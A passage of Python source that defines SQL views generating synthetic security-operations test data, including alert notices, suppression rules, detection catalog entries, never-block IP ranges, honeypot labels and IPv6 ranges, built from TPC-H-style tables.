    subject=f"CASE event_id % 8 WHEN 0 THEN '2000001|' || {_USER_IP} WHEN 1 THEN 'DET-101|a|b|443' WHEN 5 THEN 'DET-1|a|b' ELSE 'x' END", verdict="CASE WHEN event_id % 9 = 0 THEN 'maybe' ELSE 'true_positive' END",
    tune_id="CASE event_id % 10 WHEN 0 THEN 'TUNE-1' WHEN 1 THEN '-' ELSE 'TUNE-001' END", note="CASE WHEN event_id % 11 = 0 THEN '' ELSE 'n' END",
)
view("suppress_rules", "part", gid="CAST(1 AS BIGINT)", sid="2000000 + p_partkey % 100", track="CASE p_partkey % 3 WHEN 0 THEN 'by_src' WHEN 1 THEN 'by_dst' ELSE 'by_either' END", ip="CASE p_partkey % 3 WHEN 0 THEN CAST(40 + p_partkey % 150 AS STRING) || '.0.0.0/16' WHEN 1 THEN '10.128.0.' || CAST(p_partkey % 3 AS STRING) ELSE '10.128.0.2/31' END")
view("catalog_text", "part", value="CASE WHEN p_size % 7 = 0 THEN 'text' ELSE '| DET-' || CAST(100 + p_partkey % 900 AS STRING) || ' | ' || p_name || ' | SQL | T' || CAST(1000 + p_partkey % 50 AS STRING) || '.00' || CAST(p_size % 9 AS STRING) || ', T' || CAST(1500 + p_partkey % 20 AS STRING) || ' | ' || CASE WHEN p_size % 2 = 0 THEN 'Validated (x)' ELSE 'Draft' END || ' |' END")
view("targets", "customer", technique_id="'T' || CAST(1000 + c_custkey AS STRING)", tactic="c_mktsegment", name="c_name")
view(
    "notices", "events", alerted_at="TS(US(ts))", ip="CASE event_id % 12 WHEN 0 THEN '10.1.2.3' WHEN 1 THEN 'junk' WHEN 2 THEN '2001:db8::1' ELSE " + _USER_IP + " END",
    trigger="CASE event_id % 7 WHEN 0 THEN 'honeypot' WHEN 1 THEN 'scanner' WHEN 2 THEN 'nobody' WHEN 3 THEN 'manual' ELSE 'suricata' END", rule="'r' || CAST(event_id AS STRING)", ttl_seconds="CAST(NULL AS DOUBLE)",
)
view("never_block", "nation", lo="'4' || HEX2(40 + n_nationkey) || '000000'", hi="'4' || HEX2(40 + n_nationkey) || '00ffff'", network="CAST(40 + n_nationkey AS STRING) || '.0.0.0/16'", reason="n_name", place="CAST(n_nationkey AS INT)", a1="40 + n_nationkey")
view("cases", "customer", case_name="'case-' || CAST(c_custkey AS STRING)", started_at=f"TS({DAY0} + c_custkey * 1500000000)", deadline=f"TS({DAY0} + c_custkey * 1500000000 + 5400000000)", expected_sids="ARR(2000000 + c_custkey % 100, 2000000 + c_custkey * 7 % 100)")
view("lab_text", "supplier", value="'10.0.0.' || CAST(s_suppkey % 200 AS STRING) || CASE s_suppkey % 3 WHEN 0 THEN '' WHEN 1 THEN '=sensor' ELSE '=honeypot:' || s_name END || ', 10.1.0.' || CAST(s_suppkey % 200 AS STRING) || '=other:x:y'")
view("suffix_base", "part", p_brand="lower(replace(p_brand, '#', ''))")
view(
    "suffix_names", "customer",
    name=(
        "CASE c_custkey % 7 WHEN 0 THEN 'brand' || CAST(11 + c_custkey % 45 AS STRING) || '.test' WHEN 1 THEN 'shop' || CAST(c_custkey AS STRING) || '.Brand' || CAST(11 + c_custkey % 45 AS STRING) || '.test' "
        "WHEN 2 THEN 'a.b.c' || CAST(c_custkey AS STRING) || '.brand' || CAST(11 + c_custkey % 45 AS STRING) || '.wild' WHEN 3 THEN 'x.keep.brand' || CAST(11 + c_custkey % 45 AS STRING) || '.wild' "
        "WHEN 4 THEN 'brand' || CAST(11 + c_custkey % 45 AS STRING) || '.wild' WHEN 5 THEN 'single' || CAST(c_custkey AS STRING) ELSE 'www.deep.site' || CAST(c_custkey % 100 AS STRING) || '.org' END"
    ),
)
view(
    "v6_hosts", "customer",
    ip="CASE WHEN c_custkey % 9 = 0 THEN '' ELSE '2001:db8:' || HEX2(c_custkey % 300) || CASE WHEN c_custkey % 2 = 0 THEN '::' ELSE ':8000::' END || HEX2(c_custkey % 7000) END",
    block="c_custkey % 300", upper="c_custkey % 2 = 1 AND c_custkey % 9 <> 0", known="c_custkey % 9 <> 0",
)
_V6 = "'620010db8' || lpad(HEX2({}), 4, '0') || "
view("v6_ranges", "supplier", lo=_V6.format("s_suppkey % 300") + "repeat('0', 20)", hi=_V6.format("s_suppkey % 300") + "repeat('f', 20)", asn="s_suppkey % 300", block="s_suppkey % 300", upper="s_suppkey < 0")
view("v6_ranges", "supplier", lo=_V6.format("s_suppkey % 300") + "'8' || repeat('0', 19)", hi=_V6.format("s_suppkey % 300") + "repeat('f', 20)", asn="100000 + s_suppkey % 300", block="s_suppkey % 300", upper="s_suppkey >= 0")
view("release_requests", "supplier", ip="'198.51.100.' || CAST(s_suppkey % 250 AS STRING)", reason="s_name", suppress_seconds="CASE WHEN s_suppkey % 3 = 0 THEN NULL ELSE CAST(s_suppkey * 60 AS DOUBLE) END")
